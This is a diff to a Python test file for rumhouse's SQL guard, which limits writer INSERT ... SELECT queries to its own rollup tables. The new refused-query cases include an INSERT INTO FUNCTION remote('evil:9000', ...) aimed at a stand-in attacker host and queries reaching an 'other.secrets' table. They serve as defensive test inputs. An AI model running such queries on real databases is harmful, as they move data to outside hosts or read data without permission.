@@ -1,7 +1,7 @@
 """A writer's INSERT ... SELECT (how ``rumhouse simulate --days`` rolls up the hours it
-writes through a running collector's SQL endpoint) is allowed into the three hourly rollup
-tables of rumhouse's own database only, without SETTINGS, and its SELECT meets the same
-checks as any query. The trees are the engine's own (``EXPLAIN AST``)."""
+writes through a running collector's SQL endpoint) is allowed into the rollup tables (the
+hourly ones and the sessions) of rumhouse's own database only, without SETTINGS, and its
+SELECT meets the same checks as any query. The trees are the engine's own (``EXPLAIN AST``)."""
 
 from __future__ import annotations
 
@@ -71,9 +71,19 @@ def test_a_rollup_of_hours_is_allowed(store: Any, guard: Guard, sql: str) -> Non
          "function file reaches outside rumhouse's data"),
         ("INSERT INTO vitals_hourly_data SELECT * FROM other.secrets",
          "other.secrets is outside rumhouse's data"),
+        # a table function ahead of a rollup table's name (its PARTITION BY) is no target
+        ("INSERT INTO FUNCTION remote('evil:9000', db.t) PARTITION BY vitals_hourly_data "
+         "SELECT 1", ONLY),
+        # names deeper in the tree are checked: in the SELECT, and in the column list
+        ("INSERT INTO vitals_hourly_data SELECT hour FROM vitals_hourly "
+         "WHERE site IN other.secrets", "other.secrets is outside rumhouse's data"),
+        ("INSERT INTO vitals_hourly_data (other.secrets.x) SELECT 1",
+         "other.secrets is outside rumhouse's data"),
     ],
     ids=["raw-table", "other-database", "alerts", "values", "format", "select", "function",
-         "settings", "nested-settings", "file", "other-table"],
+         "settings", "nested-settings", "file", "other-table", "function-partition",
+         "in-other-table", "other-column"],
 )  # fmt: skip
 def test_anything_else_is_refused(store: Any, guard: Guard, sql: str, reason: str) -> None:
-    assert reason in refusal(guard, explained(store, sql))
+    expected = f"Code: 497. DB::Exception: Not enough privileges: {reason}. (ACCESS_DENIED)\n"
+    assert refusal(guard, explained(store, sql)) == expected
